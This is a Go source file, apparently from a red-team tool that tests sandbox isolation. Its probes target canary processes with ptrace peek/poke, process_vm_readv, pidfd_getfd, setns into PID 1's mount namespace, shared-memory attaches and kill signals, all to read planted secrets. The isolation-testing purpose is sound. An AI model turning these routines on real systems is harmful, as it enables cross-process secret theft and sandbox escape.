package payload

import (
	"bytes"
	"encoding/binary"
	"io"
	"os"
	"runtime"
	"strconv"
	"syscall"

	"golang.org/x/sys/unix"

	"github.com/brainst0rm/sandbox-redteam/internal/attack"
)

func kill0(pid int) error { return unix.Kill(pid, 0) }

// visible brings the canary's command line back.
func (j job) visible(cas string, c attack.ProcCanary) {
	j.onCanary(cas, "list", c, func(pid int) ([]byte, error) {
		return os.ReadFile("/proc/" + strconv.Itoa(pid) + "/cmdline")
	})
}

func (j job) signal(cas string, c attack.ProcCanary) {
	j.onCanary(cas, "kill", c, func(pid int) ([]byte, error) {
		if err := unix.Kill(pid, unix.SIGUSR1); err != nil {
			return nil, err
		}
		// The first one may have ended it already.
		_ = unix.Kill(pid, unix.SIGTERM)
		return nil, nil
	})
}

func (j job) pidfd(cas string, c attack.ProcCanary) {
	j.onCanary(cas, "pidfd_send_signal", c, func(pid int) ([]byte, error) {
		fd, err := unix.PidfdOpen(pid, 0)
		if err != nil {
			return nil, err
		}
		defer unix.Close(fd)
		return nil, unix.PidfdSendSignal(fd, unix.SIGUSR1, nil, 0)
	})
}

// getfd takes a descriptor out of the canary and reads it.
func (j job) getfd(cas string, c attack.ProcCanary) {
	j.onCanary(cas, "pidfd_getfd", c, func(pid int) ([]byte, error) {
		pidfd, err := unix.PidfdOpen(pid, 0)
		if err != nil {
			return nil, err
		}
		defer unix.Close(pidfd)
		fd, err := unix.PidfdGetfd(pidfd, c.FD, 0)
		if err != nil {
			return nil, err
		}
		defer unix.Close(fd)
		buf := make([]byte, 256)
		n, err := unix.Pread(fd, buf, 0)
		return buf[:max(n, 0)], err
	})
}

func (j job) vmRead(cas string, c attack.ProcCanary) {
	j.onCanary(cas, "process_vm_readv", c, func(pid int) ([]byte, error) {
		buf := make([]byte, max(1, min(c.SecretLen, 256)))
		n, err := unix.ProcessVMReadv(pid, []unix.Iovec{{Base: &buf[0], Len: uint64(len(buf))}},
			[]unix.RemoteIovec{{Base: uintptr(c.SecretAddr), Len: len(buf)}}, 0)
		return buf[:max(n, 0)], err
	})
}

// ptrace attaches, reads the secret, leaves a mark and detaches.
func (j job) ptrace(cas string, c attack.ProcCanary) {
	j.onCanary(cas, "ptrace", c, func(pid int) (data []byte, err error) {
		runtime.LockOSThread()
		defer runtime.UnlockOSThread()
		if err := unix.PtraceAttach(pid); err != nil {
			return nil, err
		}
		defer func() { _ = unix.PtraceDetach(pid) }()
		if err := awaitStop(pid); err != nil {
			return nil, err
		}
		data = make([]byte, max(8, min(c.SecretLen, 256)))
		n, err := unix.PtracePeekData(pid, uintptr(c.SecretAddr), data)
		if err != nil {
			return nil, err
		}
		if c.TouchAddr != 0 {
			_, err = unix.PtracePokeData(pid, uintptr(c.TouchAddr), []byte("touched!"))
		}
		return data[:n], err
	})
}

// awaitStop waits for the stop that attaching asked for and lets other signals
// pass.
func awaitStop(pid int) error {
	for {
		var status unix.WaitStatus
		_, err := unix.Wait4(pid, &status, unix.WALL, nil)
		switch {
		case err == unix.EINTR:
		case err != nil:
			return err
		case !status.Stopped():
			return unix.ESRCH
		case status.StopSignal() == unix.SIGSTOP:
			return nil
		default:
			if err := unix.PtraceCont(pid, int(status.StopSignal())); err != nil {
				return err
			}
		}
	}
}

// setns enters the mount namespace of each process that might be outside and
// reads the canary file there.
func (j job) setns() {
	targets := map[string]int{"pid 1": 1}
	for cas, c := range j.p.Canaries {
		for _, pid := range find(c) {
			targets["canary "+cas] = pid
		}
	}
	for name, pid := range targets {
		data, err := enterAndRead(pid, j.p.SecretPath, []byte(j.p.SecretMarker))
		j.try(attack.ProcSetns, "setns", name, data, err)
	}
}

// enterAndRead does its work on a thread of its own, which ends with it.
func enterAndRead(pid int, path string, marker []byte) (data []byte, err error) {
	done := make(chan struct{})
	go func() {
		defer close(done)
		runtime.LockOSThread() // never unlocked: the thread must not be used again
		data, err = inNamespace(pid, path, marker)
	}()
	<-done
	return data, err
}

func inNamespace(pid int, path string, marker []byte) ([]byte, error) {
	base := "/proc/" + strconv.Itoa(pid) + "/ns/"
	mnt, err := unix.Open(base+"mnt", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return nil, err
	}
	defer unix.Close(mnt)
	// Capabilities over the mount namespace come with its user namespace. A
	// process with several threads may not enter that, so this only helps where
	// the kernel lets it; the errno that counts is the mount namespace's.
	if user, err := unix.Open(base+"user", unix.O_RDONLY|unix.O_CLOEXEC, 0); err == nil {
		_ = unix.Setns(user, unix.CLONE_NEWUSER)
		_ = unix.Close(user)
	}
	if err := unix.Unshare(unix.CLONE_FS); err != nil {
		return nil, err
	}
	if err := unix.Setns(mnt, unix.CLONE_NEWNS); err != nil {
		return nil, err
	}
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	b, err := io.ReadAll(io.LimitReader(f, 4096))
	if err != nil {
		return nil, err
	}
	if !bytes.Contains(b, marker) {
		return nil, errMarker
	}
	return b, nil
}

// shm reads the segment with the canary's key.
func (j job) shm() {
	if j.p.ShmKey == 0 {
		return
	}
	data, err := readSegment(j.p.ShmKey)
	j.try(attack.ProcShm, "shmat", "the canary's key", data, err)
}

func readSegment(key int) ([]byte, error) {
	id, err := unix.SysvShmGet(key, 0, 0)
	if err != nil {
		return nil, err
	}
	b, err := unix.SysvShmAttach(id, 0, unix.SHM_RDONLY)
	if err != nil {
		return nil, err
	}
	out := bytes.Clone(b[:min(len(b), 64)])
	return out, unix.SysvShmDetach(b)
}

// init asks for PID 1 with signal 0. Only in a VM of ours, where PID 1 is our
// agent, it gets a SIGTERM.
func (j job) init() {
	j.try(attack.ProcInit, "kill 0", "pid 1", nil, kill0(1))
	if j.p.VM {
		j.try(attack.ProcInit, "kill SIGTERM", "pid 1", nil, unix.Kill(1, syscall.SIGTERM))
	}
}

// environAt finds where in a process's memory the value of a variable is.
func environAt(pid int, name string) (uint64, error) {
	stat, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
	if err != nil {
		return 0, err
	}
	fields := bytes.Fields(stat[bytes.LastIndexByte(stat, ')')+1:])
	if len(fields) < 48 {
		return 0, unix.EINVAL
	}
	start, err := strconv.ParseUint(string(fields[47]), 10, 64)
	if err != nil {
		return 0, err
	}
	env, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/environ")
	if err != nil {
		return 0, err
	}
	i := bytes.Index(env, []byte(name+"="))
	if i < 0 || start == 0 {
		return 0, unix.ENOENT
	}
	return start + uint64(i+len(name)+1), nil
}

// wordOf is the start of a random 31-bit key for a segment of our own.
func wordOf(nonce string) int {
	return int(binary.NativeEndian.Uint32([]byte(nonce + "    ")[:4])&0x7fffffff | 1)
}
